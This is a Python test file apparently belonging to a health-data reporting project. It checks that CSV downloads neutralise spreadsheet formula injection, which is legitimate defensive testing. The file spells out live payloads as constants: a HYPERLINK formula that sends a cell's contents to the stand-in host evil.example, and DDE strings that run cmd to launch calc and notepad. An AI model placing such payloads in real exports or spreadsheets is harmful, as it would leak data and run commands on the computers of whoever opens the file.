"""Attack 12: spreadsheet formula injection through the CSV downloads.

Locality names (any text column of the user's data, or a label in the config) starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return went into the CSV downloads unchanged;
the loader's stripping of a leading tab even exposed the ``=``. Opened in a spreadsheet, the
cell runs as a formula. Text cells must start with a quote; numbers must stay numbers.
"""

from __future__ import annotations

import csv
import io
import json

import polars as pl

from healthgap.book import Book
from healthgap.config import load_config
from healthgap.data import load
from healthgap.downloads import write_download
from tests.conftest import build_people

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for your results")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))


def test_locality_names_that_are_formulas_reach_the_download_quoted(book, tmp_path):
    people = build_people(400).with_columns(
        pl.col("locality").replace(
            {"Ipswich": "\t" + HYPERLINK, "Colchester": DDE, "Tendring": "+cmd|' /C notepad'!A0"}
        )
    )
    people.write_parquet(book / "data" / "people.parquet")
    config = load_config(book / "data" / "default.yml")
    frame = load(config).collect()
    assert HYPERLINK in frame["locality"].to_list()  # the loader stripped the tab: '=' is first
    counts = frame.group_by("locality").agg(pl.len().alias("people")).sort("locality")
    pages = Book(config=config, chapter="geography", page_prefix="../", downloads=tmp_path / "dl", data=frame)
    pages.download(pages.publish(counts, counts=["people"]), id="people-by-locality", title="People")
    header, *body = rows_of(tmp_path / "dl" / "geography" / "people-by-locality.csv")
    cells = [row[header.index("locality")] for row in body]
    assert sorted(cells) == sorted(["'" + HYPERLINK, "'" + DDE, "'+cmd|' /C notepad'!A0"])
    assert all(row[header.index("people")].isdigit() for row in body)  # counts stay numbers


def test_every_dangerous_first_character_is_neutralised_and_numbers_are_kept(tmp_path):
    df = pl.DataFrame(
        {
            "label": ["=1+2", "+1+2", "-1+2", "@A1", "\t=1", "\r=1", "plain", "-1.5", None],
            "value": [-1.5, 2.0, -3.25, 0.0, 1e-3, -7.0, 8.0, 9.0, 10.0],
            "code": pl.Series(["-x", "a", "b", "c", "d", "e", "f", "g", "h"], dtype=pl.Categorical),
            "=evil()": [1, 2, 3, 4, 5, 6, 7, 8, 9],
        }
    )
    write_download(df, tmp_path, chapter="c", id="d", title="T", kind="data", synthetic=True)
    header, *body = rows_of(tmp_path / "c" / "d.csv")
    assert header == ["label", "value", "code", "'=evil()"]
    assert [r[0] for r in body] == ["'=1+2", "'+1+2", "'-1+2", "'@A1", "'\t=1", "'\r=1", "plain", "-1.5", ""]
    assert [r[1] for r in body] == ["-1.5", "2.0", "-3.25", "0.0", "0.001", "-7.0", "8.0", "9.0", "10.0"]
    assert body[0][2] == "'-x"
    # the manifest still names the columns as the book does
    fragment = json.loads((tmp_path / ".manifest" / "c--d.json").read_text())
    assert fragment["columns"] == ["label", "value", "code", "=evil()"] and fragment["rows"] == 9
